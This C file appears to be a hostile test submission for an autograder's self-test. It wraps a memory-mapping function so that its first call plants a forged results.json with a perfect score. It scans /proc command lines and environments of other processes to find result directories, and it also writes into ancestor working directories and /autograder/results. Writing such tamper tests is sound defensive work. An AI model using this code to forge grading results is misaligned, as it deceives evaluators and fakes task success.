/* Hostile submission for the grader's self-test: the starter whose mf_map first plants a
 * fake results.json (score 100) and a marker file in the working directory, in the working
 * directory of every ancestor process, in every --out directory found in /proc/PID/cmdline,
 * in $AUTOGRADER_ROOT/results (also found in /proc/PID/environ) and in /autograder/results.
 * (A constructor would be refused before any test runs; mf_map runs in most tests.) */
#include "mapfile.h"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define mf_map mf_map_starter
/* @@STARTER@@ */
#undef mf_map

static const char fake_json[] =
    "{\"score\": 100, \"max_score\": 100, \"tests\": []}\n";

static void plant(const char *dir)
{
    char path[4096];
    const char *names[] = { "results.json", "mmhostile-planted.txt" };

    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "%s/%s", dir, names[i]);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, 0644);
        if (fd == -1)
            continue;
        if (write(fd, fake_json, strlen(fake_json)) < 0) {
            /* ignored: this is an attack, not a program */
        }
        close(fd);
    }
}

/* Reads /proc/PID/FILE (NUL-separated strings) into buf; returns its length or 0. */
static size_t read_proc(const char *pid, const char *file, char *buf, size_t cap)
{
    char path[300];
    snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
    int fd = open(path, O_RDONLY);
    if (fd == -1)
        return 0;
    ssize_t n = read(fd, buf, cap - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    return (size_t)n;
}

/* Every --out DIR in any process's command line, every AUTOGRADER_ROOT in its environment. */
static void plant_in_other_processes(void)
{
    static char buf[1 << 16];
    char dir[4096];
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int planted = 0;

    if (proc == NULL)
        return;
    while ((e = readdir(proc)) != NULL && planted < 64) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        size_t n = read_proc(e->d_name, "cmdline", buf, sizeof(buf));
        for (size_t i = 0; i < n; i += strlen(buf + i) + 1) {
            if (strncmp(buf + i, "--out=", 6) == 0) {
                plant(buf + i + 6);
                planted++;
            } else if (strcmp(buf + i, "--out") == 0 && i + 6 < n) {
                plant(buf + i + 6);
                planted++;
            }
        }
        n = read_proc(e->d_name, "environ", buf, sizeof(buf));
        for (size_t i = 0; i < n; i += strlen(buf + i) + 1) {
            if (strncmp(buf + i, "AUTOGRADER_ROOT=", 16) == 0) {
                snprintf(dir, sizeof(dir), "%s/results", buf + i + 16);
                plant(dir);
                planted++;
            }
        }
    }
    closedir(proc);
}

/* The working directory of this process and of each ancestor, up to 16 levels. */
static void plant_in_ancestors(void)
{
    char pid[32], stat[1024], dir[4096];

    snprintf(pid, sizeof(pid), "%d", (int)getpid());
    for (int level = 0; level < 16; level++) {
        snprintf(stat, sizeof(stat), "/proc/%s/cwd", pid);
        ssize_t n = readlink(stat, dir, sizeof(dir) - 1);
        if (n > 0) {
            dir[n] = '\0';
            plant(dir);
        }
        if (read_proc(pid, "stat", stat, sizeof(stat)) == 0)
            return;
        char *close_paren = strrchr(stat, ')');
        int ppid;
        if (close_paren == NULL || sscanf(close_paren + 1, " %*c %d", &ppid) != 1 || ppid <= 1)
            return;
        snprintf(pid, sizeof(pid), "%d", ppid);
    }
}

static void plant_fake_results(void)
{
    const char *root = getenv("AUTOGRADER_ROOT");
    char dir[4096];

    plant(".");
    plant_in_ancestors();
    plant_in_other_processes();
    if (root != NULL) {
        snprintf(dir, sizeof(dir), "%s/results", root);
        plant(dir);
    }
    plant("/autograder/results");
}

int mf_map(int fd, off_t offset, size_t len, int prot, int flags, struct mf_view *v)
{
    static int planted;

    if (!planted++)
        plant_fake_results();
    return mf_map_starter(fd, offset, len, prot, flags, v);
}
